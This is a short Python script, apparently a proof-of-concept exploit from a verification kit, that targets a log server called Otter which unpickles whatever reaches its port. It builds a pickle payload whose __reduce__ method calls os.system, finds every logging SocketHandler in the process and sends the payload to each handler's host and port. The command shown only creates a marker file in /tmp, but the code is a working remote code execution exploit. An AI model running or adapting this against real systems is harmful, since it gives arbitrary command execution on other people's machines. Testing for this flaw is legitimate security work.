"""Send a pickled payload to Otter's log server, which unpickles whatever reaches its port."""
# %%
import logging
import os
import pickle
import socket
import struct


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/kit-verify-pwned-log",))


loggers = [logging.getLogger()] + [logging.getLogger(n) for n in logging.root.manager.loggerDict]
for handler in [h for logger in loggers for h in getattr(logger, "handlers", [])]:
    if isinstance(handler, logging.handlers.SocketHandler):
        data = pickle.dumps(Payload())
        with socket.create_connection((handler.host, handler.port), timeout=5) as s:
            s.sendall(struct.pack(">L", len(data)) + data)
